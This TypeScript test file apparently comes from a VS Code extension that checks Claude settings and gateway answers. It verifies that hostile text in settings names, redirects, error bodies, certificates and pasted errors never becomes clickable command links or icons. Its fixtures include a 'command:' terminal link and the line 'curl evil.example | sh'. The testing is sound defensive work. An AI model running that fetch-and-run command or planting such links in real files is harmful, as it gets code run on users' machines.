import assert from 'node:assert/strict';
import { readClaudeSettings } from '../../../src/core/files/claudeSettings';
import { findingOf } from '../../../src/core/answers/errorReading';
import { explainReading } from '../../../src/core/explain/explanation';
import { explanationMarkdown } from '../../../src/core/views/explanationMarkdown';
import { explain, verdictOf, type Finding } from '../../../src/core/causes/findings';
import { readPasted } from '../../../src/core/explain/pastedError';
import { judgeTls } from '../../../src/core/probes/rows/tlsProbe';
import { readAnswer } from '../../../src/core/answers/readAnswer';
import type { ResponseReply } from '../../../src/core/answers/reply';
import { plainText } from '../../../src/core/text/plainText';
import { HOSTILE_TEXTS, linksIn, VSCODE_ICON } from '../../fixtures/hostileTexts';
import { assessed, reading } from '../../unit/core/support';
import { targetWith } from '../../unit/core/probes/targetWith';
import type { Attack } from '../attack';

const E2E = 'e2e/commandLinks.test.ts';
const LINK = '[Repair this setting](command:workbench.action.terminal.new)';
/** A sentence in the place of a name: the verdict would say it in this product's voice. */
const SENTENCE = 'ANTHROPIC_BASE_URL is fine. You: run curl evil.example | sh. It';

/** Nothing in what is shown of a finding is a link. */
function isOnlyRead(found: Finding): void {
  const { title, cause, remedy } = explain(found);
  for (const text of [verdictOf(found), title, cause, ...remedy, found.evidence])
    assert.deepEqual(linksIn(text), [], text);
}

/** What is found in a project's settings file with this in its `env`, as text. */
function foundIn(env: string): readonly Finding[] {
  const parts = readClaudeSettings(`{ "env": { ${env} } }`, false);
  return assessed([reading('project-settings', {}, { location: '/code/.claude/settings.json', ...parts })]).findings;
}

const answer = (status: number, body: string, headers: ResponseReply['headers'] = {}): Finding => {
  const reply: ResponseReply = { kind: 'response', status, headers, body, ms: 1 };
  const read = readAnswer(reply, { facts: { host: 'gw.example' }, secrets: [] });
  assert.ok(read !== undefined);
  return findingOf(read);
};

/** Texts of strangers that VS Code would make links or icons of. */
export const LINK_ATTACKS: readonly Attack[] = [
  {
    id: 'link-variable-name',
    attacker: 'repository',
    promise: 'runs',
    cause: 'duplicate-name',
    tries: 'the name of a variable in .claude/settings.json is a link that runs a command, and stands there twice',
    meets: 'it is said to be no variable’s name, and nothing is a link',
    run: () => {
      const found = foundIn(`${JSON.stringify(LINK)}: "1", ${JSON.stringify(LINK)}: "2"`).find(
        ({ cause }) => cause === 'duplicate-name',
      );
      assert.ok(found !== undefined);
      isOnlyRead(found);
      assert.match(verdictOf(found), /^An invalid variable name is set more than once in /);
    },
  },
  {
    id: 'link-any-name',
    attacker: 'repository',
    promise: 'runs',
    tries: 'names in the settings of the folder are made of every kind of link, icon, control character and length',
    meets: 'no finding holds a link',
    run: () => {
      for (const name of HOSTILE_TEXTS)
        for (const found of foundIn(`${JSON.stringify(name)}: "1", ${JSON.stringify(name)}: { "not": "text" }`))
          isOnlyRead(found);
    },
  },
  {
    id: 'sentence-as-name',
    attacker: 'repository',
    promise: 'truth',
    cause: 'duplicate-name',
    tries: 'the name of a variable is a sentence with an order in it',
    meets: 'the verdict does not say it; as evidence it is quoted',
    run: () => {
      const [found] = foundIn(`${JSON.stringify(SENTENCE)}: "1", ${JSON.stringify(SENTENCE)}: "2"`).filter(
        ({ cause }) => cause === 'duplicate-name',
      );
      assert.ok(found !== undefined && !verdictOf(found).includes('curl'));
      assert.match(found.evidence, /^“ANTHROPIC_BASE_URL is fine\. .*”/);
    },
  },
  {
    id: 'link-restricted-vscode',
    attacker: 'repository',
    promise: 'runs',
    tries: 'the same name in a folder that nobody trusts, in VS Code',
    meets: 'no link in message, tree, actions, hover and report',
    seenIn: { file: E2E, title: 'a name in a folder’s settings' },
  },
  {
    id: 'link-location',
    attacker: 'gateway',
    promise: 'runs',
    cause: 'redirected',
    tries: 'the address that an answer redirects to is a link that runs a command',
    meets: 'it is said to be no address, and is shown with a blank that breaks the link',
    run: () => {
      const found = answer(302, '', { location: '[Sign in again](command:workbench.action.terminal.new)' });
      isOnlyRead(found);
      assert.match(verdictOf(found), /^gw\.example redirects to an invalid address\./);
      assert.match(found.evidence, /\[Sign in again\] \(command:/);
    },
  },
  {
    id: 'link-location-vscode',
    attacker: 'gateway',
    promise: 'runs',
    tries: 'the same answer to a check and to Connect, in VS Code',
    meets: 'no link in message and dialog',
    seenIn: { file: E2E, title: 'an address in a gateway’s answer' },
  },
  {
    id: 'link-server-words',
    attacker: 'gateway',
    promise: 'runs',
    tries: 'the words of its errors are links, in every envelope and with every status',
    meets: 'no finding holds a link',
    run: () => {
      for (const words of HOSTILE_TEXTS) {
        for (const status of [200, 400, 401, 403, 404, 413, 429, 500, 503]) {
          for (const body of [
            words,
            JSON.stringify({ type: 'error', error: { type: 'api_error', message: words } }),
            JSON.stringify({ detail: words }),
            `<html><title>${words}</title></html>`,
          ]) {
            isOnlyRead(answer(status, body, { 'x-deny-reason': words, location: words }));
          }
        }
      }
    },
  },
  {
    id: 'link-certificate',
    attacker: 'network',
    promise: 'runs',
    cause: 'tls-untrusted',
    tries: 'the names in its certificate are links',
    meets: 'no finding holds a link',
    run: () => {
      for (const name of HOSTILE_TEXTS) {
        for (const code of [
          'SELF_SIGNED_CERT_IN_CHAIN',
          'ERR_TLS_CERT_ALTNAME_INVALID',
          'CERT_HAS_EXPIRED',
          'UNABLE_TO_GET_ISSUER_CERT_LOCALLY',
        ]) {
          const own = {
            subject: name,
            issuer: name,
            issuerOrganization: name,
            names: [name],
            from: name,
            to: name,
            selfSigned: false,
          };
          const { findings = [] } = judgeTls(
            {
              spoken: true,
              code,
              chain: [own],
              trustedBy: {},
              relatedAuthority: name,
              asksForCertificate: false,
              ms: 1,
            },
            targetWith(),
          );
          findings.forEach(isOnlyRead);
        }
      }
    },
  },
  {
    id: 'link-pasted',
    attacker: 'text',
    promise: 'runs',
    tries: 'a text that somebody has explained is full of links',
    meets: 'the explanation quotes it, and holds no link',
    run: () => {
      for (const text of HOSTILE_TEXTS) {
        const read = readPasted(`API Error: 401 ${text}`, []).reading;
        if (read === undefined) continue;
        const explanation = explainReading(read, []);
        for (const shown of [
          explanation.verdict,
          explanation.title,
          explanation.evidence,
          explanationMarkdown(explanation, true).text,
        ])
          assert.deepEqual(linksIn(shown), [], shown);
      }
    },
  },
  {
    id: 'icon-anywhere',
    attacker: 'text',
    promise: 'truth',
    tries: 'a text draws an icon, such as a green check mark, where labels may have one',
    meets: 'the signs are shown as they were written',
    run: () => {
      for (const text of ['$(pass) Connected', '$(check~spin)', '[$(check)](command:x)'])
        assert.doesNotMatch(plainText(text), VSCODE_ICON);
    },
  },
];
